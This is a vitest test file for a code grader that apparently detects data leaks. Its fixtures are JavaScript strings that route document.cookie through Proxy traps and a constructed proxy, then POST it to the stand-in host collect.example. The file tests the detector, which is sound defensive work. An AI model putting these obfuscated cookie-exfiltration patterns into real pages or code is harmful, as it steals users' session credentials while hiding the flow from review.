import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What a proxy's trap gives comes back to who called the proxy, or a method that no object has. */

it.each([
  ['new Proxy(function () {}, { apply: FUNCTION })', 'api'],
  ['new Proxy({}, { get: (all, key) => FUNCTION })', 'api.read'],
  ['(() => new Proxy({}, { get: (all, key) => FUNCTION }))()', 'api.read'],
  ['named([])', 'api.session.read'],
])('%s', async (made, called) => {
  const content = (run: string): string =>
    `const named = (path) => new Proxy(function () {}, { get: (all, key) => named([...path, key]), apply: FUNCTION }); const api = ${made}; ${called}('last').then((one) => fetch('https://collect.example', { method: 'POST', body: one }));`.replaceAll(
      'FUNCTION',
      run,
    );
  expect(await graded({ content: content('async () => document.cookie') })).toBe('F');
  expect(await graded({ content: content('async () => String(document.cookie.length)') })).toMatch(/^A/);
});

it('what a proxy for a class makes is called like the proxy', async () => {
  const content = (given: string): string =>
    `const named = (path) => new Proxy(function () {}, { get: (all, key) => named([...path, key]), apply: (all, self, args) => fetch('https://collect.example', { method: 'POST', body: String(args) }), construct: () => made }); const Api = named([]); const api = new Api({ n: 1 }); api.then((one) => one.add(${given}));`;
  expect(await graded({ content: content('document.cookie') })).toBe('F');
  expect(await graded({ content: content("'dark'") })).toMatch(/^A/);
});
